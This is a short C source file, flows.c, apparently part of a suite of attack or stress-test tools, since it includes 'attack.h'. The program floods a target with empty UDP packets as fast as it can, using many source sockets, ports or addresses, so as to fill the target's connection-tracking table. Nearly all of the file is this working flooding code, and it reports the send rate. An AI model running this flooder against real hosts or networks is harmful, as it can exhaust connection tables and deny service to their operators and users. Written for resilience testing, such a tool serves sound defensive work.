/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * flows.c: fills a table of connections: UDP packets of as many different connections as asked for, as fast as they go, to one of
 * many ports of one address, or to one port of one of many addresses.
 *
 *   flows ADDRESS COUNT             says how many were sent and how many per second
 *   flows ADDRESS/BITS COUNT        to that address and those that follow, COUNT of them
 */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PORT_FIRST 1024
#define PORTS 60000ul

static double now(void) {
        struct timespec t;

        clock_gettime(CLOCK_MONOTONIC, &t);
        return (double) t.tv_sec + (double) t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
        struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(PORT_FIRST) };
        char *many = argc == 3 ? strchr(argv[1], '/') : NULL;
        unsigned long count, sent = 0;
        double begun = now();
        uint32_t first;
        int fd = -1;

        if (many) {
                *many = '\0';
        }
        if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
                fprintf(stderr, "usage: flows ADDRESS COUNT\n");
                return ATTACK_BROKEN;
        }
        count = strtoul(argv[2], NULL, 10);
        first = ntohl(to.sin_addr.s_addr);
        for (unsigned long i = 0; i < count; i++) {
                if (i % PORTS == 0) { /* the old one stays open, or its port would come again */
                        fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
                        if (fd < 0) {
                                broken("socket");
                        }
                }
                if (many) {
                        to.sin_addr.s_addr = htonl(first + (uint32_t) i);
                } else {
                        to.sin_port = htons((uint16_t) (PORT_FIRST + i % PORTS));
                }
                sent += sendto(fd, "", 0, MSG_DONTWAIT, (const struct sockaddr *) &to, sizeof(to)) == 0;
        }
        say("%lu of %lu sent, %.0f a second", sent, count, (double) sent / (now() - begun));
        return 0;
}
